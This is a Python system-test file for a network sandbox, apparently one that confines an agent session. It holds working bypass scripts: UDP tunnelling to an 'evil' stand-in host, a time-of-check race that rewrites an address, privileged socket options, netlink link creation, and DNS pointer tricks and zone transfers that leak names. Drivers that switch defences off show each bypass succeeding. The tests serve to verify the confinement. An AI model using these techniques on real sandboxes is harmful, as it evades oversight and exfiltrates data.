"""Attacks on the addresses that a session may reach, and on the sockets that lead there."""

from __future__ import annotations

import json
import subprocess

from tests.system.conftest import Person
from tests.system.outside import ALLOW_GOOD, TRY, Outside, outside, run
from tests.system.outside_world import EVIL, GOOD, META, NAMESERVER

__all__ = ["outside"]


SPELLINGS = (
    TRY
    + f"""
said = [fetch("{META}"), fetch("::ffff:{META}"), fetch("::ffff:{EVIL}"), fetch("{EVIL}")]
def unspecified():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("0.0.0.0", 0))
    sock.connect(("{EVIL}", 80))
    return sock.recv(100).decode()
said.append(attempt(unspecified))
print(json.dumps(said))
"""
)


def test_no_spelling_of_an_address_gets_past_its_rule(person: Person, outside: Outside) -> None:
    wide = (
        f"action: network, host: {EVIL}, effect: deny",
        "action: network, host: ['*', 0.0.0.0/0, '::/0'], effect: allow",
    )
    done = run(person, wide, SPELLINGS)
    assert set(json.loads(done.stdout)) == {"EACCES"}, done.stderr
    assert outside.seen() == {}

    done = run(person, (f"action: network, host: [{META}, {EVIL}], effect: allow",), SPELLINGS)
    assert all(text.startswith("hello from") for text in json.loads(done.stdout)), done.stderr
    assert len(outside.seen()[f"tcp {META}:80"]) == 2


TUNNEL = (
    TRY
    + f"""
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
GOOD, EVIL = "{GOOD}", "{EVIL}"
socket.getaddrinfo("good.test", 80)
said = {{}}

def sockaddr(host, family=socket.AF_INET):
    return struct.pack("=H", family) + struct.pack(">H", 9999) + socket.inet_aton(host) + bytes(8)

def udp():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

def tell(call):
    result = call()
    return result if result >= 0 else errno.errorcode[ctypes.get_errno()]

allowed = udp()
allowed.settimeout(60)
said["allowed"] = attempt(lambda: allowed.sendto(b"first", (GOOD, 9999)))
said["answer"] = allowed.recv(100).decode()
said["sendto"] = attempt(lambda: udp().sendto(b"tunnel", (EVIL, 9999)))
connected = udp()
connected.connect((GOOD, 9999))
said["on a connected socket"] = attempt(lambda: connected.sendto(b"tunnel", (EVIL, 9999)))
said["reconnect"] = attempt(lambda: connected.connect((EVIL, 9999)))
said["unspec connect"] = tell(lambda: libc.connect(connected.fileno(), bytes(16), 16))
said["after it"] = attempt(lambda: connected.connect((EVIL, 9999)))
unspec = sockaddr(EVIL, 0)
said["unspec sendto"] = tell(
    lambda: libc.sendto(allowed.fileno(), b"tunnel", 6, 0, unspec, 16))
said["sendmsg"] = attempt(lambda: udp().sendmsg([b"tunnel"], [], 0, (EVIL, 9999)))

class Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_char_p), ("length", ctypes.c_size_t))
class Msghdr(ctypes.Structure):
    _fields_ = (("name", ctypes.c_char_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.c_void_p),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p),
                ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int), ("pad", ctypes.c_int),
                ("sent", ctypes.c_uint), ("more", ctypes.c_uint))
one, two = Iovec(b"second", 6), Iovec(b"tunnel", 6)
both = (Msghdr * 2)(
    Msghdr(sockaddr(GOOD), 16, ctypes.addressof(one), 1),
    Msghdr(sockaddr(EVIL), 16, ctypes.addressof(two), 1),
)
fresh = udp()
said["sendmmsg"] = tell(lambda: libc.sendmmsg(fresh.fileno(), both, 2, 0))
said["lengths"] = [message.sent for message in both]
print(json.dumps(said))
"""
)


def test_datagrams_go_where_a_rule_allows_and_nowhere_else(
    person: Person, outside: Outside
) -> None:
    done = run(person, (ALLOW_GOOD,), TUNNEL)
    assert done.returncode == 0, done.stderr
    said = json.loads(done.stdout)
    assert said.pop("answer") == "first"
    assert said == {
        "allowed": 5, "sendto": "EACCES", "on a connected socket": "EACCES",
        "reconnect": "EACCES", "unspec connect": 0, "after it": "EACCES",
        "unspec sendto": "EACCES", "sendmsg": "EACCES", "sendmmsg": 1, "lengths": [6, 0],
    }  # fmt: skip
    seen = outside.seen()
    assert f"udp {EVIL}:9999" not in seen
    assert seen[f"udp {GOOD}:9999"] == ["first", "second"]

    # each of them works where a rule allows the other host too
    done = run(person, (f"action: network, host: [good.test, {EVIL}], effect: allow",), TUNNEL)
    said = json.loads(done.stdout)
    assert (said["sendmmsg"], said["lengths"]) == (2, [6, 6]), done.stderr
    assert outside.seen()[f"udp {EVIL}:9999"] == ["tunnel"] * 5


RACE = (
    TRY
    + f"""
import ctypes, mmap, signal, struct
libc = ctypes.CDLL(None, use_errno=True)
socket.getaddrinfo("good.test", 80)
good, evil = (struct.pack("=H", 2) + struct.pack(">H", 9999) + socket.inet_aton(host) + bytes(8)
              for host in ("{GOOD}", "{EVIL}"))
# a thread in all but the interpreter's lock: it writes the same memory all the time
address = (ctypes.c_char * 16).from_buffer(mmap.mmap(-1, 4096))
ctypes.memmove(address, good, 16)
writer = os.fork()
while not writer:
    ctypes.memmove(address, evil, 16)
    ctypes.memmove(address, good, 16)
sent = 0
while sent < 50:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        if libc.connect(sock.fileno(), address, 16) == 0:
            sent += 1
            sock.send(b"raced")
os.kill(writer, signal.SIGKILL)
os.waitpid(writer, 0)
print(sent)
"""
)


#: The supervisor with one defence off: what is used is read again after the verdict.
READ_AGAIN = """
import sys
from safeclaw.daemon.cli.main import main
from safeclaw.sandbox import network
from safeclaw.sandbox.caller import read_exact

def connect(note, sock, raw, connect=network._connect_outside):
    # the window that a busy machine would give it
    for _ in range(5000):
        again = read_exact(note.pid, note.args[1], len(raw))
        if again != raw:
            break
    return connect(note, sock, again)

network._connect_outside = connect
sys.exit(main())
"""


def test_an_address_rewritten_after_its_verdict_is_not_the_one_used(
    person: Person, outside: Outside
) -> None:
    done = run(person, (ALLOW_GOOD,), RACE)
    assert done.returncode == 0, done.stderr
    assert int(done.stdout) > 0
    seen = outside.seen()
    assert f"udp {EVIL}:9999" not in seen
    assert len(seen[f"udp {GOOD}:9999"]) == int(done.stdout)

    driver = person.base / "driver.py"
    driver.write_text(READ_AGAIN)
    person.own()
    person.program[1:] = [str(driver)]
    done = run(person, (ALLOW_GOOD,), RACE)
    assert done.returncode == 0, done.stderr
    assert int(done.stdout) > 0
    assert outside.seen().get(f"udp {EVIL}:9999")


OPTIONS = (
    TRY
    + """
tcp = socket.create_connection(("api.good.test", 8443))
options = {
    "source route": (0, 4, b"\\x83\\x07\\x04\\x00\\x00\\x00\\x00\\x00"),
    "device": (1, 25, b"lo\\0"),
    "device index": (1, 62, (1).to_bytes(4, "little")),
    "device for unicast": (0, 50, (1).to_bytes(4, "big")),
    "device for unicast 6": (41, 76, (1).to_bytes(4, "big")),
    "packet info 6": (41, 50, bytes(16) + (1).to_bytes(4, "little")),
    "flow label": (41, 32, bytes(32)),
    "free bind": (0, 15, (1).to_bytes(4, "little")),
    "free bind 6": (41, 78, (1).to_bytes(4, "little")),
    "mark": (1, 36, (1).to_bytes(4, "little")),
    "transparent": (0, 19, (1).to_bytes(4, "little")),
    "group": (0, 35, socket.inet_aton("224.0.0.251") + socket.inet_aton("0.0.0.0")),
    "repair": (6, 19, (1).to_bytes(4, "little")),
}
said = {name: attempt(lambda: tcp.setsockopt(*value)) for name, value in options.items()}
said["reconnect"] = attempt(lambda: tcp.connect(("203.0.113.66", 80)))
fresh = socket.create_connection(("api.good.test", 8443))
import ctypes
ctypes.CDLL(None).connect(fresh.fileno(), bytes(16), 16)
said["listen"] = attempt(lambda: fresh.listen())
said["bind"] = attempt(lambda: fresh.bind(("0.0.0.0", 4444)))
said["fast open"] = attempt(lambda: socket.socket().sendto(b"x", 0x20000000, ("203.0.113.66", 80)))
print(json.dumps(said))
"""
)


def test_a_socket_of_the_hosts_network_cannot_be_turned_to_more(
    person: Person, outside: Outside
) -> None:
    done = run(person, ("action: network.connect, host: '*.good.test', effect: allow",), OPTIONS)
    assert done.returncode == 0, done.stderr
    said = json.loads(done.stdout)
    # a kernel without CAP_NET_ADMIN's option says EPERM for itself
    assert said == {
        "source route": "EPERM", "device": "EPERM", "device index": "EPERM", "mark": "EPERM",
        "device for unicast": "EPERM", "device for unicast 6": "EPERM", "packet info 6": "EPERM",
        "flow label": "EPERM", "free bind": "EPERM", "free bind 6": "EPERM",
        "transparent": "EPERM", "group": "EPERM", "repair": "EPERM",
        "reconnect": "EACCES", "listen": "EACCES", "bind": "EACCES", "fast open": "ENOTSUP",
    }  # fmt: skip
    assert f"tcp {EVIL}:80" not in outside.seen()


#: Another device of the host's, behind which any host may have any address.
AWAY = 77
ANOTHER_DEVICE = (
    "ip link add away index 77 type veth peer name astray && ip link set away up && "
    "ip link set astray up && ip addr add 198.51.100.77/32 dev away"
)
OTHER_WAYS = (
    TRY
    + f"""
import struct
there = ("{GOOD}", 9999)
def udp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(60)
    sock.sendto(b"plain", there)  # from now on it is one of the host's
    assert sock.recv(100) == b"plain"
    return sock
info = (0, 8, struct.pack("=i8x", {AWAY}))
said = [attempt(lambda: udp().sendmsg([b"info"], [info], 0, there))]
option = udp()
said.append(attempt(lambda: option.setsockopt(0, 50, struct.pack(">I", {AWAY}))))
said.append(attempt(lambda: option.sendto(b"option", there)))
udp()
print(json.dumps(said))
"""
)
#: The supervisor with the defences off: devices may be chosen.
ANY_DEVICE = """
import sys
from safeclaw.daemon import kept
from safeclaw.daemon.cli.main import main
from safeclaw.sandbox import filters, msghdr, syscalls
msghdr._INTERFACE = {}
syscalls._ROUTES = ()
kept.filters = lambda state, *, network, confined=False: filters.build(
    network=network, confined=confined)
sys.exit(main())
"""


def test_a_datagram_takes_the_way_that_its_address_has(person: Person, outside: Outside) -> None:
    subprocess.run([*outside.enter, "sh", "-c", ANOTHER_DEVICE], check=True)
    allow = f"action: network.send, host: {GOOD}, effect: allow"
    done = run(person, (allow,), OTHER_WAYS)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == [4, "EPERM", 6]
    assert outside.seen()[f"udp {GOOD}:9999"] == ["plain", "info", "plain", "option", "plain"]

    driver = person.base / "driver.py"
    driver.write_text(ANY_DEVICE)
    person.own()
    person.program[1:] = [str(driver)]
    done = run(person, (allow,), OTHER_WAYS)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == [4, None, 6]
    # sent, and gone to whoever is behind the other device
    assert outside.seen()[f"udp {GOOD}:9999"][5:] == ["plain"] * 3


#: Ways to have the kernel change the session's own network: in it the supervisor may anything.
OWN_LINKS = (
    TRY
    + """
import struct
def attribute(kind, data):
    return struct.pack("=HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)
kind = attribute(18, attribute(1, b"veth\\0"))  # IFLA_LINKINFO, IFLA_INFO_KIND
body = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + kind
request = struct.pack("=IHHII", 16 + len(body), 16, 0x605, 1, 0) + body  # RTM_NEWLINK
def made(send):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        send(sock)
        return struct.unpack_from("=i", sock.recv(4096), 16)[0] == 0
def connected(sock):
    sock.connect((0, 0))
    sock.send(request)
print(json.dumps([
    made(lambda sock: sock.send(request)), made(connected),
    made(lambda sock: sock.sendto(request, (0, 0))),
    made(lambda sock: sock.sendmsg([request], [], 0, (0, 0))),
    attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).connect((4242, 0))),
    attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).sendto(request, (0, 1))),
    [name for _, name in socket.if_nameindex() if name.startswith("veth")],
]))
"""
)
#: The supervisor with the defence off: a message goes out under the name that it was given.
NAMED = """
import sys
from safeclaw.daemon.cli.main import main
from safeclaw.sandbox import messages
judged = messages._Sending._judged

def under_its_name(self, message, name, **more):
    return judged(self, message, name or message.name, **more)

messages._Sending._judged = under_its_name
sys.exit(main())
"""


def test_the_supervisors_rights_in_the_sessions_network_are_not_the_agents(person: Person) -> None:
    done = run(person, (), OWN_LINKS)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == [False, False, False, False, "EPERM", "EPERM", []]

    driver = person.base / "driver.py"
    driver.write_text(NAMED)
    person.own()
    person.program[1:] = [str(driver)]
    done = run(person, (), OWN_LINKS)
    assert json.loads(done.stdout)[:4] == [False, False, True, True], done.stderr


#: Judged as loot.evil.test.good.test: its end is where what is passed on has a zero.
POINTED = (
    TRY
    + f"""
import struct
labels = b"\\x04loot\\x04evil\\x04test"
pointer = struct.pack(">H", 0xC000 | 12 + len(labels) + 2 + 4 + 5)
packet = bytes((0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 1)) + labels + pointer + bytes((0, 1, 0, 1))
packet += bytes((0, 0, 41, 4, 208)) + b"\\x04good\\x04test\\0"
with socket.create_connection(("{NAMESERVER}", 53)) as sock:
    sock.sendall(struct.pack(">H", len(packet)) + packet)
    print(len(sock.recv(100)))
print(fetch("good.test", 8443))
"""
)
#: The supervisor with the defence off: a question's name may be put together by pointers.
POINTERS = """
import sys
from safeclaw.daemon.cli.main import main
from safeclaw.sandbox import dns
name = dns._name
dns._name = lambda packet, offset, **_: name(packet, offset)
sys.exit(main())
"""


def test_a_question_cannot_be_judged_by_another_name_than_is_asked(
    person: Person, outside: Outside
) -> None:
    done = run(person, (ALLOW_GOOD,), POINTED)
    assert done.stdout.split("\n")[:2] == ["0", f"hello from tcp {GOOD}:8443"], done.stderr
    assert "dns tcp" not in outside.seen()

    driver = person.base / "driver.py"
    driver.write_text(POINTERS)
    person.own()
    person.program[1:] = [str(driver)]
    run(person, (ALLOW_GOOD,), POINTED)
    assert outside.seen()["dns tcp"] == ["loot.evil.test"]


#: A zone transfer (AXFR): the names of all hosts of good.test, whichever of them a rule has.
TRANSFER = f"""
packet = bytes((0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0))
packet += b"\\x04good\\x04test\\0" + bytes((0, 252, 0, 1))
with socket.create_connection(("{NAMESERVER}", 53)) as sock:
    sock.sendall(len(packet).to_bytes(2, "big") + packet)
    print(len(sock.recv(100)))
"""
#: The supervisor with the defence off.
TRANSFERS = """
import sys
from safeclaw.daemon.cli.main import main
from safeclaw.sandbox import dns
dns.QTYPES = range(0)
sys.exit(main())
"""


def test_a_zone_is_not_transferred(person: Person, outside: Outside) -> None:
    only = ("action: network, host: good.test, effect: allow",)
    done = run(person, only, TRANSFER)
    assert done.stdout == f"{2 + 12 + 15}\n", done.stderr
    assert "dns tcp" not in outside.seen()

    driver = person.base / "driver.py"
    driver.write_text(TRANSFERS)
    person.own()
    person.program[1:] = [str(driver)]
    run(person, only, TRANSFER)
    assert outside.seen()["dns tcp"] == ["good.test"]
